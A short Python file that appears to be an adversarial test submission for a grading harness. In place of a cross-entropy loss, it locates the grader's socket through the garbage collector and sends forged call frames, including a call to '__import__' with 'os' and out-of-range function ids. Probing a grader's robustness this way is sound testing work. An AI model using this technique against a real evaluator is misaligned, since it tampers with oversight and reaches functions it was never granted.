"""Calls functions of the suite that it was never given, and with what is no arguments."""

import gc
import socket

import msgpack

from grader.wire.frames import send_frame
from grader.wire.values import Wire

EXERCISE = "losses/cross_entropy_error_label"
LINK = max((o for o in gc.get_objects() if type(o) is socket.socket), key=socket.socket.fileno)
HEAD = Wire(None, first_id=1).dump_alone(None)[:-1]  # a message but for its value
FORGED = [
    [-1, ["tuple"], ["dict"]],
    [10**9, ["tuple"], ["dict"]],
    ["__import__", ["tuple", "os"], ["dict"]],
    [0, 1, 2],
    [0, ["namespace"], ["dict", 1, 2]],
    [None, ["tuple", ["object", 0, "x"]], ["dict"]],
    [],
]


def cross_entropy_error(y, t):
    tree = FORGED[y.size % len(FORGED)]
    send_frame(LINK, b"c" + HEAD + msgpack.packb(["tuple", *tree]))
